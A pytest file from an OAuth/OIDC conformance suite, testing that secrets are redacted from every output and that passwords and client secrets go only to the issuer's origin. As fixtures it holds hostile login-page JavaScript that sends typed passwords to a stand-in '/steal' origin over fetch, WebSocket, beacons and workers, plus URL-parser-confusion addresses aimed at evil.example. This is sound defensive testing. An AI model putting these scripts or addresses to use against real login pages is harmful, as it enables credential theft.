"""No secret reaches a report, a log, JUnit XML or the terminal, not even on failures shown with
--showlocals. The sandbox's witness file lists every secret it received or issued in the run:
client secrets, the password, codes, verifiers, access and refresh tokens, from every response
body whatever its content type."""

import base64
import codecs
import json
import os
import re
import subprocess
import sys
from urllib.parse import quote, quote_plus

import pytest
from faulty_servers import Answer, HostileServer
from outputs import every_output, found_in, leaked
from run import ROOT, SANDBOX_YAML, run_ci, run_suite, write_environment

from suite.wire.browser import chromium_path
from suite.wire.reproduction import MADE_UP

BROWSER_YAML = (ROOT / "environments" / "sandbox-browser.yaml").read_text(encoding="utf-8")

RECOGNISABLE = {
    "sandbox-service-secret": "Svc-Secret-7f3a9c1e-DO-NOT-LEAK",
    "sandbox-web-secret": "Web-Secret-2b8d4f60-DO-NOT-LEAK",
    "sandbox-web-other-secret": "Other-Secret-93ce17aa-DO-NOT-LEAK",
    "sandbox-password": "Passw0rd-5e1b77d2-DO-NOT-LEAK",
}
# Rules that fail on purpose, so failure output (messages, tracebacks, locals) is exercised.
# token-response-not-json serves tokens as text/plain: the suite must learn them all the same.
DEFECTS = (
    "wrong-secret-accepted",
    "code-reusable",
    "refresh-for-spa",
    "tenant-claim-missing",
    "no-store-missing",
    "token-response-not-json",
)


def _outputs_into(reports) -> list[str]:
    """A run's options that write every output it has into `reports`: the Allure results, JUnit, the record."""
    return [
        f"--alluredir={reports / 'allure-results'}",
        f"--junitxml={reports / 'junit.xml'}",
        f"--compliance={reports / 'compliance.json'}",
    ]


def _terminal_and_reports(result, reports) -> dict[str, str]:
    """What a run showed: its terminal, and every file it wrote into `reports`, by path."""
    outputs = {"terminal": result.stdout + result.stderr}
    outputs.update({str(p): p.read_text(errors="replace") for p in reports.rglob("*") if p.is_file()})
    return outputs


# Each login method hands the callback over its own way: HTTP redirects, or a browser that the
# suite's HTTP client never sees.
@pytest.mark.parametrize(
    "login",
    [
        "form",
        pytest.param(
            "browser",
            marks=pytest.mark.skipif(
                chromium_path() is None and not os.environ.get("CI"), reason="needs Debian's chromium; CI installs it"
            ),
        ),
    ],
)
@pytest.mark.timeout(300)  # the ini's limit, declared: a whole run (its browser one 100 s at load 12), handed out early
def test_no_secret_in_any_output(tmp_path, login):
    text = SANDBOX_YAML if login == "form" else BROWSER_YAML
    for old, new in RECOGNISABLE.items():
        text = text.replace(old, new)
    environment = write_environment(tmp_path, text)
    witness, reports = tmp_path / "witness.txt", tmp_path / "reports"
    result = run_suite(
        f"--env={environment}",
        *(f"--defect={d}" for d in DEFECTS),
        *_outputs_into(reports),
        "--showlocals",
        "--tb=long",
        "-rA",
        "-o",
        "log_cli=true",
        "-o",
        "log_level=DEBUG",
        environ={"SANDBOX_WITNESS_FILE": str(witness)},
    )
    assert result.returncode == 1, result.stdout[-3000:] + result.stderr
    # what the suite made up and sent as no server's (a never-issued code, SVC-13's refresh token) is no secret:
    # its reproduction shows it as it was sent
    secrets = {s for s in witness.read_text().split() if not s.startswith(MADE_UP)} | set(RECOGNISABLE.values())
    kinds = witness.read_text()
    assert "eyJ" in kinds and any(s in kinds for s in RECOGNISABLE.values()), "the witness saw no tokens or secrets"
    assert len(secrets) > 40, f"only {len(secrets)} secrets witnessed"

    outputs = every_output(result.stdout + result.stderr, reports, tmp_path)
    assert any("allure-results" in name for name in outputs) and "reports/junit.xml" in outputs
    assert "--showlocals is turned off: local variables hold secrets" in outputs["terminal"]
    assert re.search(
        r"\[(access_token|refresh_token|authorization code|code_verifier|cookie redacted)\]", "".join(outputs.values())
    ), "no masked value shown anywhere"

    leaks = leaked(outputs, secrets, shown=8)
    assert not leaks, f"secrets found in output: {leaks[:10]}"
    jwt = re.compile(r"eyJ[\w-]{10,}\.eyJ[\w-]{10,}")
    assert not [name for name, content in outputs.items() if jwt.search(content)], "a JWT reached an output"


# A hostile or careless server: every encoding of every secret, every content type.
PASSWORD = 'p a+s=s%w/o&rd"\\x-5e1b'  # every character URL encoding or JSON escaping changes
CLIENT_SECRET = "Svc/Secret+7f3a 9c1e=="
TOKEN = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ0ZXN0LXVzZXItOTk5In0.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg"


def _every_encoding(secret: str) -> set[str]:
    forms = {
        secret,
        quote(secret, safe=""),
        quote(secret),
        quote_plus(secret),
        json.dumps(secret)[1:-1],
        quote(secret).lower(),
    }
    # Base64 inside HTTP Basic (`client_id:secret`): the characters that depend on the secret
    # alone, after a client id of any length (three alignments).
    forms |= {
        base64.b64encode(b"-" * shift + text.encode()).decode()[4:-4]
        for shift in range(3)
        for text in (secret, quote_plus(secret))
    }
    return forms | {f[:12] for f in forms} | {f[-12:] for f in forms}


def test_every_encoding_of_a_secret_is_scrubbed_from_exchanges_whatever_the_content_type(tmp_path):
    """The password under a custom field name, a client secret in HTTP Basic, both echoed back
    JSON-escaped and URL-encoded in a text/html error, and a token in a text/plain response."""
    from suite.configuration.environment import HttpSettings
    from suite.secrets.redaction import REDACTOR
    from suite.wire.http import HttpClient

    def echo(body):
        return Answer(
            400,
            {"Content-Type": "text/html"},
            json.dumps({"error": "invalid_grant", "error_description": f"bad {PASSWORD} for {body}"}).encode(),
        )

    server = HostileServer(
        {
            "/login": echo,
            "/token": Answer(200, {"Content-Type": "text/plain"}, f"access_token={TOKEN}&token_type=Bearer".encode()),
            "/token-json-as-text": Answer(
                200, {"Content-Type": "text/plain"}, json.dumps({"refresh_token": TOKEN[::-1]}).encode()
            ),
        }
    )
    try:
        REDACTOR.register(PASSWORD, "login.password")
        REDACTOR.register(CLIENT_SECRET, "clients.service.client_secret")
        REDACTOR.secret_field("pwd")
        http = HttpClient(HttpSettings(retries=0), server.url)
        http.send("POST", server.url + "/login", data={"user": "test.user", "pwd": PASSWORD})
        http.send(
            "POST",
            server.url + "/token",
            data={"grant_type": "client_credentials"},
            auth=("client", quote_plus(CLIENT_SECRET)),
        )
        http.send("POST", server.url + "/token-json-as-text", data={"grant_type": "client_credentials"})
        http.send("GET", server.url + "/echo?note=" + quote(TOKEN + " " + TOKEN[::-1]))
    finally:
        server.close()
    assert PASSWORD in server.requests[0][3] or quote_plus(PASSWORD) in server.requests[0][3]
    reports = "\n".join(exchange.report() for exchange in http.exchanges)
    assert "[login.password]" in reports and "[access_token]" in reports and "[refresh_token]" in reports
    for secret in (PASSWORD, CLIENT_SECRET, TOKEN, TOKEN[::-1]):
        leaked = [form for form in _every_encoding(secret) if form in reports]
        assert not leaked, f"{secret[:6]}... leaked as {leaked}"


HOSTILE_CLIENTS = {  # for an environment file: the secret comes from T_SECRET
    "service": "  service:\n    client_id: hostile-service\n    client_secret: ${T_SECRET}\n"
    "    scope: visma_api:read\n",
    "web": "  web:\n    client_id: hostile-web\n    client_secret: ${T_SECRET}\n"
    "    redirect_uri: https://web.app.local/callback\n    scope: openid\n",
    "spa": "  spa:\n    client_id: hostile-spa\n    redirect_uri: https://spa.app.local/callback\n    scope: openid\n",
}


def _hostile_environment(issuer: str, *clients: str, login_section: bool = True) -> str:
    """An environment file for a HostileServer, with those of HOSTILE_CLIENTS named, and (unless the caller writes
    its own) a login section where one of them signs the test user in (a file without one is a configuration
    problem then)."""
    login = "login:\n  method: form\n  username: test.user\n  password: ${T_SECRET}\n"
    return (
        f"name: hostile\nissuer: {issuer}\nhttp: {{retries: 0}}\n"
        + (login if login_section and set(clients) - {"service"} else "")
        + "clients:\n"
        + "".join(HOSTILE_CLIENTS[name] for name in clients)
    )


# 180 characters, then a secret: the suite's 200-character excerpt of a body cuts it in two.
PAST_THE_CUT = "x" * 180 + f" {CLIENT_SECRET} "
LETTERS_TOKEN = "ZzXyWvUtSrQpOnMlKjIhGfEdCbAzYxWv"  # an opaque token without a digit


@pytest.mark.parametrize(
    "path, answer, rules, shown",
    [
        (
            "/connect/token",
            Answer(200, {"Content-Type": "text/plain"}, f"{PAST_THE_CUT}access_token={TOKEN}".encode()),
            ("SVC-01", "SVC-03"),
            "not a JSON object",
        ),
        (
            "/connect/revocation",
            Answer(400, {"Content-Type": "text/plain"}, f"{PAST_THE_CUT}{TOKEN}".encode()),
            ("REV-01",),
            "the revocation endpoint answered HTTP 400",
        ),
        (
            "/connect/token",
            Answer(200, {"Content-Type": "text/html"}, f'<pre>{{"access_token": "{LETTERS_TOKEN}"}}</pre>'.encode()),
            ("SVC-01",),
            "not a JSON object",
        ),
    ],
    ids=["token-text-plain", "revocation-error", "token-in-html"],
)
def test_a_body_is_scrubbed_then_cut_everywhere(tmp_path, path, answer, rules, shown):
    """A token endpoint that answers text/plain with a token, or HTML around a JSON token response,
    a revocation error that echoes the client secret past the suite's 200-character cut: none
    reaches any output, nor a head of them."""
    server = HostileServer({path: answer})
    server.routes["/.well-known/openid-configuration"] = server.discovery()
    try:
        environment = write_environment(tmp_path, _hostile_environment(server.url, "service", "web"))
        reports = tmp_path / "reports"
        result = run_suite(
            f"--env={environment}",
            *(f"--rule={rule}" for rule in rules),
            *_outputs_into(reports),
            "-rA",
            environ={"T_SECRET": CLIENT_SECRET},
        )
    finally:
        server.close()
    assert result.returncode == 1, result.stdout[-3000:] + result.stderr
    outputs = _terminal_and_reports(result, reports)
    assert shown in outputs["terminal"], outputs["terminal"][-2000:]
    for secret in (CLIENT_SECRET, TOKEN, LETTERS_TOKEN):
        leaks = [(name, form) for name, text in outputs.items() for form in _every_encoding(secret) if form in text]
        assert not leaks, leaks[:5]


HOSTILE_PASSWORD = "HostilePw4Zq9"  # the outside tester's
# How the outside tester's hostile server disguised the secret it echoed in an error_description and headers
DISGUISES = {
    "base64 of utf-16-le": lambda s: base64.b64encode(s.encode("utf-16-le")).decode(),
    "c octal escapes": lambda s: "".join(f"\\{byte:03o}" for byte in s.encode()),
    "css escapes": lambda s: "".join(f"\\{ord(c):x} " for c in s),
    "css escapes six digits": lambda s: "".join(f"\\{ord(c):06x}" for c in s),
    "uuencode": lambda s: codecs.encode(s.encode(), "uu").decode(),
    "decimal bytes": lambda s: ",".join(map(str, s.encode())),
    "decimal bytes space-separated": lambda s: " ".join(map(str, s.encode())),
    "dotted letters": ".".join,
}


def _disguised_forms(secret: str) -> dict[str, str]:
    """Each disguise of `secret`, and the parts of it that must not survive (uuencode's line of the secret)."""
    forms = {name: disguise(secret) for name, disguise in DISGUISES.items()}
    forms["uuencode"] = forms["uuencode"].split("\n")[1]
    return forms


def test_a_secret_a_hostile_server_disguised_reaches_no_output(tmp_path):
    """The outside tester's hostile token endpoint echoed the client secret in an error_description and in
    response headers as base64 of its UTF-16, C octal and CSS escapes, uuencode, decimal bytes and its letters
    with dots between: each reached compliance.md and .json, JUnit XML, the history, the Allure results and
    report, and the terminal unmasked."""
    echoed = _disguised_forms(HOSTILE_PASSWORD)
    description = " ; ".join(f"{name}={DISGUISES[name](HOSTILE_PASSWORD)}" for name in DISGUISES)
    headers = {f"X-Debug-{i}": form for i, form in enumerate(echoed.values()) if "\n" not in form}
    answer = Answer(
        400,
        {"Content-Type": "application/json", **headers},
        json_body={"error": "invalid_grant", "error_description": f"secret was {description}"},
    )
    server = HostileServer({"/connect/token": answer})
    server.routes["/.well-known/openid-configuration"] = server.discovery()
    try:
        environment = write_environment(tmp_path, _hostile_environment(server.url, "service"))
        reports = tmp_path / "reports"
        result = run_suite(
            f"--env={environment}",
            "--rule=SVC-01",
            *_outputs_into(reports),
            "-rA",
            environ={"T_SECRET": HOSTILE_PASSWORD},
        )
    finally:
        server.close()
    assert result.returncode == 1, result.stdout[-3000:] + result.stderr
    outputs = _terminal_and_reports(result, reports)
    assert any("secret was" in text for text in outputs.values()), "the error_description is shown"
    leaks = [(name, where) for where, text in outputs.items() for name, form in echoed.items() if form in text]
    assert not leaks, leaks[:5]
    assert not [where for where, text in outputs.items() if HOSTILE_PASSWORD in text]


def test_a_skip_reason_quoting_the_server_is_scrubbed_everywhere(tmp_path):
    """A server that knows the client secret puts it in a value a skip reason quotes (AUTH-09 shows
    discovery's ui_locales_supported when no language but English is offered): the reason reaches
    the terminal, JUnit XML and the record without it."""
    server = HostileServer({})
    server.routes["/.well-known/openid-configuration"] = server.discovery(ui_locales_supported=[f"en-{CLIENT_SECRET}"])
    try:
        environment = write_environment(tmp_path, _hostile_environment(server.url, "web", "spa"))
        reports = tmp_path / "reports"
        result = run_suite(
            f"--env={environment}",
            "--rule=AUTH-09",
            f"--junitxml={reports / 'junit.xml'}",
            f"--compliance={reports / 'compliance.json'}",
            "-rA",
            environ={"T_SECRET": CLIENT_SECRET},
        )
    finally:
        server.close()
    outputs = {"terminal": result.stdout + result.stderr}
    outputs.update({p.name: p.read_text(errors="replace") for p in reports.rglob("*") if p.is_file()})
    for name in ("terminal", "junit.xml", "compliance.json"):
        assert "no language but English is offered" in outputs[name], f"{name}: {outputs[name][-3000:]}"
    leaks = [(name, form) for name, text in outputs.items() for form in _every_encoding(CLIENT_SECRET) if form in text]
    assert not leaks, leaks[:5]


def test_credentials_go_only_to_the_issuers_origin_and_never_over_plain_http(tmp_path):
    """Discovery sends the token endpoint to another server: the client secret never arrives
    there, and the rule fails saying why. Plain http to a real host is refused before any connection."""
    from suite.configuration.environment import HttpSettings
    from suite.wire.http import HttpClient, UntrustedEndpoint

    elsewhere = HostileServer({})
    server = HostileServer({})
    server.routes["/.well-known/openid-configuration"] = server.discovery(
        token_endpoint=elsewhere.url + "/connect/token"
    )
    try:
        environment = write_environment(tmp_path, _hostile_environment(server.url, "service"))
        result = run_suite(
            f"--env={environment}",
            "--rule=SVC-01",
            f"--compliance={tmp_path / 'c.json'}",
            environ={"T_SECRET": CLIENT_SECRET},
        )
    finally:
        server.close()
        elsewhere.close()
    output = result.stdout + result.stderr
    # no sentence binds where discovery may send a credential: a configuration problem, not SVC-01's failure
    assert result.returncode == 4, output
    assert elsewhere.requests == [], "a credential reached a server the issuer did not vouch for"
    assert f"is not the issuer's origin (http://127.0.0.1:{server.server.server_port})" in output, output
    assert "http.trusted_origins" in output

    http = HttpClient(HttpSettings(retries=0), "https://connect.example")
    with pytest.raises(UntrustedEndpoint, match="over plain HTTP"):
        http.send("POST", "http://connect.example/connect/token", data={"client_secret": "x" * 10})
    with pytest.raises(UntrustedEndpoint, match="not the issuer's origin"):
        http.send("POST", "https://evil.example/connect/token", auth=("id", "secret"))


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example\\@connect.example/connect/token",  # urllib.parse: connect.example; urllib3: evil
        "https://connect.example\\@evil.example/connect/token",  # urllib3 connects to the issuer: still refused
        "https://connect.example\\.evil.example/connect/token",
        "https://user@connect.example/connect/token",
        "https://evil.example%2F@connect.example/connect/token",
        "https://connect%2Eexample/connect/token",
        "https://connect.example /connect/token",
        "https://connect.example\t/connect/token",
        "https://connect.ex\u0430mple/connect/token",  # a Cyrillic a
        "https://connect\uff0eexample/connect/token",  # a full-width dot, a dot to a browser
        "https:connect.example/connect/token",
        "https:///connect.example/connect/token",
        "https://[connect.example]/connect/token",
    ],
)
def test_an_address_url_parsers_read_differently_gets_no_credential(address):
    """The host judged is the one the HTTP client connects to, and an address whose host parsers
    read differently is refused whatever host each reads in it: no request leaves."""
    from suite.configuration.environment import HttpSettings
    from suite.wire.http import HttpClient, UntrustedEndpoint

    http = HttpClient(HttpSettings(retries=0), "https://connect.example")
    with pytest.raises(UntrustedEndpoint, match="refused to send client_secret in POST"):
        http.send("POST", address, data={"client_secret": "x" * 10})
    assert http.exchanges == []
    assert http.credentials.refusal("https://CONNECT.example:443/connect/token?a=b\\c@d") is None


def _with_user_at(url: str) -> str:
    """`url` with user information before its host: the host every parser reads is still the issuer's."""
    return url.replace("://", "://someone@", 1)


@pytest.mark.parametrize(
    "where",
    ["discovery", "login-form", "login-redirect", "login-redirect-with-code"],
)
def test_an_address_parsers_read_differently_is_a_configuration_problem_unless_it_carries_a_response(tmp_path, where):
    """The issuer's own host with user information before it (http://someone@127.0.0.1:PORT/...): URL parsers
    read it differently, so the suite sends no credential there and follows no redirect there. No sentence binds a
    server to addresses every parser reads alike (RFC 3986 lets a URL hold user information; RFC 6749 section 3.1
    leaves the login pages to the server), so that is a configuration problem (exit 4) saying what to change, not a
    failure citing the suite's policy alone; an authorization response (a code) sent there is the server's failure,
    citing RFC 6749 section 4.1.2 (delivered to the redirection URI the request named)."""
    server = HostileServer({})
    ambiguous = _with_user_at(server.url)
    server.routes["/.well-known/openid-configuration"] = server.discovery(
        token_endpoint=(ambiguous if where == "discovery" else server.url) + "/connect/token"
    )
    server.routes["/connect/authorize"] = _hostile_login_page(
        ambiguous + "/account/login" if where == "login-form" else "/account/login"
    )
    location = ambiguous + ("/callback?code=c0de&state=s" if where == "login-redirect-with-code" else "/next")
    server.routes["/account/login"] = Answer(302, {"Location": location})
    try:
        clients = ("service",) if where == "discovery" else ("web",)
        environment = write_environment(tmp_path, _hostile_environment(server.url, *clients))
        rule = "SVC-01" if where == "discovery" else "AUTH-01"
        result = run_suite(
            f"--env={environment}",
            f"--rule={rule}",
            f"--compliance={tmp_path / 'c.json'}",
            environ={"T_SECRET": CLIENT_SECRET},
        )
    finally:
        server.close()
    output = result.stdout + result.stderr
    assert "URL parsers read different hosts" in output, output[-3000:]
    if where == "login-redirect-with-code":
        assert result.returncode == 1 and "RFC 6749 section 4.1.2" in output, output[-3000:]
        assert "the redirect_uri the request named" in output, output[-3000:]
    else:
        assert result.returncode == 4 and "configuration problem: refused to" in output, output[-3000:]
        assert "Nothing was sent" in output and "have the server give it plainly" in output, output[-3000:]
    assert [p for m, p, _, _ in server.requests if m == "POST"] == (["/account/login"] if "redirect" in where else [])
    assert not [form for form in _every_encoding(CLIENT_SECRET) if form in output]


# A hostile login page on the issuer: it sends the password elsewhere (another loopback origin
# that records what it receives, or a real host over plain http) by its form's action, by a
# script, or by answering the sign-in with a 307 redirect, which repeats the POST's body.
def _hostile_login_page(action: str, script: str = "") -> Answer:
    return Answer(
        200,
        {"Content-Type": "text/html"},
        f"""<!doctype html><title>Sign in</title>
<form method="post" action="{action}"><input id="username" name="username"><input id="password" name="password"
 type="password"><button id="sign-in" type="submit">Sign in</button></form><script>{script}</script>""".encode(),
    )


STEAL_BY_SCRIPT = """document.forms[0].onsubmit = event => { event.preventDefault();
  fetch("{elsewhere}/steal", {method: "POST", mode: "no-cors",
    body: new URLSearchParams(new FormData(event.target))}); };"""
STEAL_BY_WEB_SOCKET = """document.forms[0].onsubmit = event => { event.preventDefault();
  new WebSocket("{elsewhere}/steal?p="
    + encodeURIComponent(document.getElementById("password").value)); };"""
HOSTILE_LOGIN_PAGES = {  # how the page sends the password away: (login page, what the suite says)
    "form-action": (lambda issuer, elsewhere: _hostile_login_page(elsewhere + "/steal"), "is not the issuer's origin"),
    "plain-http": (lambda issuer, elsewhere: _hostile_login_page("http://login.example/steal"), "over plain HTTP"),
    # urllib.parse reads the issuer's host in it, urllib3 and browsers (WHATWG) the other one's
    "backslash-action": (
        lambda issuer, elsewhere: _hostile_login_page(f"{elsewhere}\\@{issuer.split('//')[1]}/account/login"),
        "is not the issuer's origin",
    ),
    "script": (
        lambda issuer, elsewhere: _hostile_login_page(
            "/account/login", STEAL_BY_SCRIPT.replace("{elsewhere}", elsewhere)
        ),
        "is not the issuer's origin",
    ),
    "redirect-307": (lambda issuer, elsewhere: _hostile_login_page("/account/login"), "is not the issuer's origin"),
    "web-socket": (
        lambda issuer, elsewhere: _hostile_login_page(
            "/account/login", STEAL_BY_WEB_SOCKET.replace("{elsewhere}", elsewhere.replace("http:", "ws:"))
        ),
        "is not the issuer's origin",
    ),
}
# What each page is refused; the others, the password in a POST.
REFUSED = {"web-socket": "a secret in the address of a WebSocket"}


def _sign_in_on_a_hostile_login_page(tmp_path, issuer: str, login: str):
    """AUTH-01 against a hostile issuer whose login page (#username, #password, #sign-in) the suite
    fills in with the `login` method, form or browser."""
    environment = write_environment(
        tmp_path,
        _hostile_environment(issuer, "web", login_section=False)
        + f"""login:
  method: {login}
  username: test.user
  password: ${{T_PASSWORD}}
  browser:
    timeout: 5
    pages:
      - url: /connect/authorize
        when: "#password"
        actions:
          - fill: "#username"
            value: "{{username}}"
          - fill: "#password"
            value: "{{password}}"
          - click: "#sign-in"
""",
    )
    return run_suite(
        f"--env={environment}",
        "--rule=AUTH-01",
        f"--compliance={tmp_path / 'c.json'}",
        environ={"T_SECRET": CLIENT_SECRET, "T_PASSWORD": PASSWORD},
    )


@pytest.mark.parametrize(
    "login, page",
    [
        ("form", "form-action"),
        ("form", "plain-http"),
        ("form", "backslash-action"),
        *(
            pytest.param(
                "browser",
                page,
                marks=pytest.mark.skipif(
                    chromium_path() is None and not os.environ.get("CI"),
                    reason="needs Debian's chromium; CI installs it",
                ),
            )
            for page in HOSTILE_LOGIN_PAGES
        ),
    ],
)
def test_the_password_goes_only_to_the_issuers_origin_whatever_the_login_page_says(tmp_path, login, page):
    """The login method, form or browser, refuses to send the test user's password anywhere the
    issuer does not vouch for, before it leaves, and says why: over plain HTTP the rule fails (RFC 6749
    section 2.3.1 and 3.2 bind that), to another origin it is a configuration problem naming
    http.trusted_origins (no sentence binds where a login page posts)."""
    elsewhere = HostileServer({"/steal": Answer(200, body=b"thanks")})
    server = HostileServer({})
    make_page, said = HOSTILE_LOGIN_PAGES[page]
    server.routes.update(
        {
            "/.well-known/openid-configuration": server.discovery(),
            "/connect/authorize": make_page(server.url, elsewhere.url),
            "/account/login": Answer(307, {"Location": elsewhere.url + "/steal"}),
        }
    )
    try:
        result = _sign_in_on_a_hostile_login_page(tmp_path, server.url, login)
    finally:
        server.close()
        elsewhere.close()
    output = result.stdout + result.stderr
    assert elsewhere.requests == [], "the password reached a server the issuer did not vouch for"
    assert result.returncode == (1 if page == "plain-http" else 4), output[-3000:]
    assert f"refused to send {REFUSED.get(page, 'password in POST ')}" in output and said in output, output[-3000:]
    assert not [form for form in _every_encoding(PASSWORD) if form in output]


# A real server's run, as a partner makes it: secrets from the environment, the login form's own
# password field name, and every character that an encoding changes in each secret.
REAL_SECRETS = {
    "T_SERVICE_SECRET": CLIENT_SECRET,
    "T_WEB_SECRET": 'Web "secret"\\ +=%/&-2b8d',
    "T_OTHER_SECRET": "Other%20Secret&x=1/93ce+",
    "T_SHORT_SECRET": "Short lived+%41/=:;é-7a1f",
    "T_PASSWORD": PASSWORD,
}
REAL_SERVER_YAML = (
    re.sub(r"sandbox:\n  defects: \[\].*\n", "issuer: {issuer}\n", SANDBOX_YAML)
    .replace("name: sandbox", "name: hostile-real")
    .replace("  form:\n", "  form:\n    password_field: pwd\n")
)
for _value, _variable in (
    ("sandbox-service-secret", "T_SERVICE_SECRET"),
    ("sandbox-web-secret", "T_WEB_SECRET"),
    ("sandbox-web-other-secret", "T_OTHER_SECRET"),
    ("sandbox-web-short-lived-secret", "T_SHORT_SECRET"),
    ("sandbox-password", "T_PASSWORD"),
):
    # the value as written, quoted or not (the service secret has characters that need quotes)
    REAL_SERVER_YAML = re.sub(rf': "?{re.escape(_value)}[^"\n]*"?\n', f": ${{{{{_variable}}}}}\n", REAL_SERVER_YAML)
ALLURE = ROOT / "node_modules" / ".bin" / "allure"


@pytest.mark.timeout(300)  # the ini's limit, declared: a whole run and its reports (40-50 s at load 12): early
@pytest.mark.parametrize("defects", [DEFECTS, ()], ids=["failing", "conformant"])
def test_no_encoding_of_any_secret_in_any_output_of_a_real_server_run(tmp_path, monkeypatch, defects):
    """Every output of a run and of what is made from it afterwards (Allure results, the HTML
    report, JUnit, the terminal, the record, the certificate) holds no encoding of any secret:
    raw, URL-encoded either way, JSON-escaped, base64 inside Basic. The server is the sandbox
    behind a proxy whose login form names the password field `pwd`, and whose every error
    echoes the credentials it received, in all those encodings."""
    from faulty_servers import FaultyProxy

    from sandbox import SandboxServer
    from suite.configuration.environment import load_environment
    from suite.wire.embedded_sandbox import registry_for
    from suite.wire.token_requests import WRONG_SECRET

    witness = tmp_path / "witness.txt"
    monkeypatch.setenv("SANDBOX_WITNESS_FILE", str(witness))
    proxy = FaultyProxy(renames={"password": "pwd"}, echo_credentials=True)
    environment = write_environment(tmp_path, REAL_SERVER_YAML.format(issuer=proxy.url))
    sandbox = SandboxServer(
        registry_for(load_environment(str(environment), REAL_SECRETS)), defects, issuer=proxy.url, code_lifetime=3
    ).start()
    proxy.target = sandbox.url
    reports = tmp_path / "reports"
    try:
        result = run_suite(
            f"--env={environment}",
            *_outputs_into(reports),
            "-rA",
            "-o",
            "log_cli=true",
            "-o",
            "log_level=DEBUG",
            environ=REAL_SECRETS,
        )
    finally:
        proxy.close()
        sandbox.stop()
    terminal = result.stdout + result.stderr
    assert result.returncode == (1 if defects else 0), terminal[-3000:]
    assert proxy.count("POST", "/account/login", "pwd=") and not proxy.count("POST", "/account/login", "&password=")
    # The project's own allurerc.mjs, in a scratch copy of the project: its paths are relative.
    (tmp_path / "allurerc.mjs").write_text((ROOT / "allurerc.mjs").read_text())
    (tmp_path / "node_modules").symlink_to(ROOT / "node_modules")
    for command, cwd in (
        ([str(ALLURE), "generate", "reports/allure-results"], tmp_path),
        (
            [
                sys.executable,
                "-m",
                "suite.reports.report_page",
                str(reports / "allure-report"),
                str(reports / "compliance.json"),
            ],
            ROOT,
        ),
    ):
        made = subprocess.run(command, cwd=cwd, capture_output=True, text=True, timeout=120)
        assert made.returncode == 0, made.stdout[-2000:] + made.stderr[-2000:]
        terminal += made.stdout + made.stderr
    if not defects:
        certificate = subprocess.run(
            [sys.executable, "-m", "suite.reports.certificate", str(reports / "compliance.json")],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=120,
        )
        terminal += certificate.stdout + certificate.stderr
        assert (reports / "certificate.html").exists(), certificate.stderr

    outputs = every_output(terminal, reports, tmp_path)
    # the single-file HTML report carries its data and attachments base64-encoded: each is read
    # decoded, as it is shown, and the page around them apart (the base64 the page wraps them in is
    # Allure's, not an encoding of a secret that the suite let through)
    from suite.reports.html_report import embedded_files

    outputs["reports/allure-report/index.html"] = re.sub(
        r'\bd\("[^"]*","[A-Za-z0-9+/=]*"\)', "d()", outputs["reports/allure-report/index.html"]
    )
    outputs.update(
        {
            f"reports/allure-report/index.html: {name}": data.decode(errors="replace")
            for name, data in embedded_files(reports / "allure-report").items()
        }
    )
    assert any("data/attachments/" in name for name in outputs)
    assert "reports/allure-report/index.html" in outputs and any("-attachment" in name for name in outputs)
    # The wrong secret the suite sends on purpose is written in its source: no secret at all; nor is what it made up
    # and sent as no server's (a never-issued code), which its reproduction shows as it was sent.
    witnessed = {s for s in witness.read_text().splitlines() if not s.startswith(MADE_UP)}
    secrets = (set(REAL_SECRETS.values()) | witnessed) - {WRONG_SECRET}
    forms = {secret: _every_encoding(secret) for secret in secrets}
    found = found_in(outputs, (form for encodings in forms.values() for form in encodings))
    leaks = [
        (name, secret[:6] + "...", form[:6] + "...")
        for secret, encodings in forms.items()
        for form in encodings
        for name in sorted(found.get(form, ()))
    ]
    assert not leaks, leaks[:10]


# A login page that, once the password is typed, sends it to another origin by a channel that no
# known encoding of it gives away, then goes on to a page of its own. Each channel's payload:
# how the test finds the password in what the other origin received.
HOSTILE_CHANNELS = {
    "popup": ('window.open(E + "/popup?d=" + encodeURIComponent(pw))', lambda p: p),
    "fetch-hex": ('fetch(E + "/fetch?d=" + hex(pw), {mode: "no-cors"})', lambda p: p.encode().hex()),
    "form-target-blank": (
        'const f = Object.assign(document.createElement("form"), {method: "post", action: E + "/form", '
        'target: "_blank"}); f.append(Object.assign(document.createElement("input"), {name: "d", value: hex(pw)})); '
        "document.body.append(f); f.submit()",
        lambda p: p.encode().hex(),
    ),
    "script-reversed": (
        'document.body.append(Object.assign(document.createElement("script"), '
        '{src: E + "/script?d=" + encodeURIComponent(rev(pw))}))',
        lambda p: p[::-1],
    ),
    "web-socket-base64": (
        'new WebSocket(E.replace("http:", "ws:") + "/socket?d=" + encodeURIComponent(btoa(pw)))',
        lambda p: base64.b64encode(p.encode()).decode(),
    ),
    "beacon": ('navigator.sendBeacon(E + "/beacon", rev(hex(pw)))', lambda p: p.encode().hex()[::-1]),
    "worker": (
        'new Worker(inWorker("fetch(E + \\"/worker?d=\\" + hex(self.name))"), {name: pw})',
        lambda p: p.encode().hex(),
    ),
    "shared-worker": (
        'new SharedWorker(inWorker("fetch(E + \\"/shared?d=\\" + hex(self.name))"), {name: pw})',
        lambda p: p.encode().hex(),
    ),
    "worker-web-socket": (
        'new Worker(inWorker("new WebSocket(E.replace(\\"http:\\", \\"ws:\\") + \\"/ws?d=\\" + hex(self.name))"), '
        "{name: pw})",
        lambda p: p.encode().hex(),
    ),
}


def _exfiltrating_login_page(elsewhere: str, channel: str) -> Answer:
    send = HOSTILE_CHANNELS[channel][0]
    script = f"""const E = {json.dumps(elsewhere)};
const hex = s => [...new TextEncoder().encode(s)].map(b => b.toString(16).padStart(2, "0")).join("");
const rev = s => [...s].reverse().join("");
const inWorker = code => URL.createObjectURL(new Blob(["const E = " + JSON.stringify(E) + ";"
  + "const hex = " + hex.toString() + ";" + code], {{type: "text/javascript"}}));
document.forms[0].onsubmit = event => {{ event.preventDefault();
  const pw = document.getElementById("password").value;
  {send};
  setTimeout(() => location.href = "/account/done", 700); }};"""
    return _hostile_login_page("/account/login", script)


def _received(server: HostileServer) -> str:
    """Everything another origin received: request lines' decoded query values and bodies."""
    from urllib.parse import parse_qsl, urlsplit

    return "\n".join(
        "\n".join(v for _, v in parse_qsl(urlsplit(path).query)) + "\n" + body for _, path, _, body in server.requests
    )


@pytest.mark.skipif(chromium_path() is None and not os.environ.get("CI"), reason="needs Debian's chromium")
@pytest.mark.parametrize("channel", HOSTILE_CHANNELS)
def test_a_page_the_password_was_typed_into_reaches_no_other_origin_whatever_it_sends(tmp_path, channel):
    """Control: in a browser the suite does not guard, the page's channel delivers the password
